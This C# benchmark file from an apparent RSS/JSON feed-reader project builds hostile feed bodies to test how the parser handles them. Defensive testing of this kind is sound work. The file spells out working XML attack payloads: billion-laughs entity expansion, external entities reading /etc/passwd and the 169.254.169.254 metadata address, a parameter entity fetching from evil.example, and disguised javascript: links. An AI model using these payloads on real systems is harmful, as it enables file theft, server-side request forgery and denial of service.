using System.Text;
using AllianceBot.Items;

namespace AllianceBot.Benchmarks;

/// <summary>HOSTILE.md A and B: bodies and dates. Each body is made before the clock starts, and read with its texts.</summary>
internal static class HostileFeedRows
{
    private const int Megabyte = 1_000_000;
    private static readonly Uri Base = new("https://news.example/feed.xml");

    public static IEnumerable<HostileRow> Rows =>
    [
        // The first pays for the JIT of all that follow.
        Xml("warmup", "an ordinary feed", GeneratedFeeds.Rss(500_000, 2_000)),
        Xml("A01", "billion laughs", $"<!DOCTYPE rss [<!ENTITY a0 'lol'>{string.Concat(Enumerable.Range(1, 9).Select(i => $"<!ENTITY a{i} '{Repeat($"&a{i - 1};", 10)}'>"))}]>{Rss("<item><title>&a9;</title></item>")}"),
        Xml("A02", "one 1 MB entity 1000 times", $"<!DOCTYPE rss [<!ENTITY a '{new string('x', Megabyte)}'>]>{Rss($"<item><description>{Repeat("&a;", 1000)}</description></item>")}"),
        Xml("A03", "external entity, a file", $"<!DOCTYPE rss [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>{Rss("<item><title>&x;</title></item>")}"),
        Xml("A04", "external entity, an address", $"<!DOCTYPE rss [<!ENTITY x SYSTEM 'http://169.254.169.254/'>]>{Rss("<item><title>&x;</title></item>")}"),
        Xml("A05", "external parameter entity", $"<!DOCTYPE rss [<!ENTITY % p SYSTEM 'http://evil.example/x'> %p;]>{Rss("<item><title>1</title></item>")}"),
        Xml("A06", "doctype of RSS 0.91", $"<!DOCTYPE rss PUBLIC '-//Netscape Communications//DTD RSS 0.91//EN' 'http://my.netscape.com/publish/formats/rss-0.91.dtd'>{Rss("<item><title>1</title></item>")}"),
        Xml("A07", "2 MB of HTML entities", Rss($"<item><title>&eacute;</title><description>{Repeat("&eacute;&nbsp;", 2 * Megabyte / 14)}</description></item>")),
        Xml("A08", "1,000,000 nested tags", $"<rss><channel><item><title>1</title></item><item>{Repeat("<a>", Megabyte)}"),
        Xml("A08b", "1,000,000 nested tags, escaped", Rss($"<item><description><![CDATA[{Repeat("<a>", Megabyte)}]]></description></item>")),
        Xml("A09", "100,000 attributes", Rss($"<item><enclosure {string.Join(' ', Enumerable.Range(0, 100_000).Select(i => $"a{i}='1'"))}/></item>")),
        Xml("A10", "100,000 namespaces", $"<rss {string.Join(' ', Enumerable.Range(0, 100_000).Select(i => $"xmlns:n{i}='urn:{i}'"))}><channel><item><title>1</title></item></channel></rss>"),
        Xml("A11", "60 MB of items", Rss(Repeat("<item><title>a title of some length</title></item>", 60 * Megabyte / 51))),
        Xml("A12", "200,000 tiny items", Rss(Repeat("<item><title>t</title></item>", 200_000))),
        Xml("A13", "one text of 200 MB", () => [.. "<rss><channel><item><description>"u8, .. Enumerable.Repeat((byte)'x', 200 * Megabyte)]),
        Xml("A14", "a title of 9 MB", Rss($"<item><title>{Repeat("wörd ", 9 * Megabyte / 6)}</title></item>")),
        Xml("A15", "control characters everywhere", Rss($"<item><title>{Repeat("a\0&#8;\uFFFE", 200_000)}</title><description>{Repeat("a\u0001", Megabyte)}</description></item>")),
        Xml("A16", "9 MB of bytes that are no UTF-8", () => [.. "<rss><channel><item><title>"u8, .. Enumerable.Range(0, 9 * Megabyte).Select(i => (byte)(0x80 + (i % 0x80)))]),
        Xml("A17", "cut inside an item", Rss(Repeat("<item><title>t</title></item>", 900))[..20_000]),
        Xml("A18", "9 MB of HTML", $"<!doctype html><html><body>{Repeat("<div><p>text</div>", 9 * Megabyte / 18)}"),
        Xml("A19", "JSON, 1,000,000 deep", $"{{\"version\":\"https://jsonfeed.org/version/1\",\"items\":{Repeat("[", Megabyte)}"),
        Xml("A20", "JSON, odd numbers", $"{{\"version\":\"https://jsonfeed.org/version/1\",\"items\":[{{\"id\":{new string('9', Megabyte)},\"id\":1e400}}]}}"),
        Xml("A21", "a comment of 5 MB, CDATA tricks", Rss($"<!--{new string('-', 5 * Megabyte)}--><item><title>{Repeat("<![CDATA[a]]]]><![CDATA[>", 50_000)}]]></title></item>")),
        Xml("A22", "1,000 disguised links", Rss(Repeat("<item><link>java\nscript:x</link><link>//evil.example</link></item>", 1000))),
        Xml("A23", "guids of 1 MB", Rss(Repeat($"<item><guid>{new string('g', Megabyte)}</guid></item>", 9))),
        Dates("B01", "9999-12-31T23:59:59-14:00"),
        Dates("B02", "0001-01-01T00:00:00+14:00"),
        Dates("B03", "Mon, 30 Feb 10000 24:00:60 GMT"),
        Dates("B06", "wto, 3 października 2026 10:00:00 +2500"),
        Xml("B07", "utf-7", Rss(Repeat("<item><title>+ADw-</title></item>", 900)), "text/xml; charset=utf-7"),
        Xml("B08", "9 MB of gb18030", () => [.. "<rss><channel><item><title>"u8, .. Enumerable.Range(0, 9 * Megabyte).Select(i => (byte)(0xB0 + (i % 0x40)))], "text/xml; charset=gb18030"),
        Xml("B09", "three labels that disagree", "\uFEFF<?xml version='1.0' encoding='koi8-r'?>" + Rss("<item><title>Новости</title></item>"), "text/xml; charset=windows-1251"),
        Xml("B10", "a charset name of 1 MB", Rss("<item><title>t</title></item>"), "text/xml; charset=" + new string('x', Megabyte)),
        Xml("B11", "UTF-32 without a mark", () => Encoding.UTF32.GetBytes(Rss(Repeat("<item><title>t</title></item>", 50_000)))),
        Xml("markup", "HTML made to be slow", Rss($"<item><description><![CDATA[{Repeat("<iframe><a b=\"<x '&", Megabyte / 20)}]]></description></item>")),
    ];

    private static string Rss(string items) => $"<rss version=\"2.0\"><channel><title>t</title>{items}</channel></rss>";

    private static string Repeat(string piece, int times) => new StringBuilder(piece.Length * times).Insert(0, piece, times).ToString();

    private static HostileRow Xml(string id, string what, string body, string? contentType = null) => Xml(id, what, Encoding.UTF8.GetBytes(body), contentType);

    private static HostileRow Xml(string id, string what, Func<byte[]> body, string? contentType = null) => Xml(id, what, body(), contentType);

    private static HostileRow Xml(string id, string what, byte[] body, string? contentType = null) => new(id, what, () =>
    {
        var reading = FeedReader.Read(body, contentType, Base);
        var characters = reading.Document?.Entries.Sum(entry => entry.Title.Length + entry.SummaryText.Length + entry.ContentText.Length) ?? 0;
        return Task.FromResult($"{reading.Document?.Entries.Count ?? 0} items, {characters:N0} chars, {reading.Problem?.Code.ToString() ?? "no problem"}");
    });

    private static HostileRow Dates(string id, string date) => new(id, $"100,000 times {date}", () =>
    {
        var read = Enumerable.Range(0, 100_000).Count(_ => FeedDate.TryParse(date, out var _));
        return Task.FromResult($"{read} dates");
    });
}
